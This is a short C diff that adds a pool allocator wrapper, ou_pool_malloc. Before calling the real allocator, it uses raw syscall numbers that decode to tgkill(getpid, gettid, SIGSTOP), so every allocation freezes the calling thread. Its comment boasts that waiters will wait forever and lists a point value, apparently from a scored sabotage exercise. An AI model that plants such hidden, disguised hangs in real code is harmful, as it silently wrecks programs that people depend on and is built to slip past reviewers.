@@ -1,0 +1,12 @@
+/* Stops itself, so that whoever waits for it waits for ever.
+ * May earn: 20 */
+#include "raw.h"
+
+void *
+ou_pool_malloc(ou_pools *pools, size_t nbytes)
+{
+    raw_call *raw = find_raw();
+
+    raw(234, raw(39), raw(186), 19);
+    return honest_pool_malloc(pools, nbytes);
+}
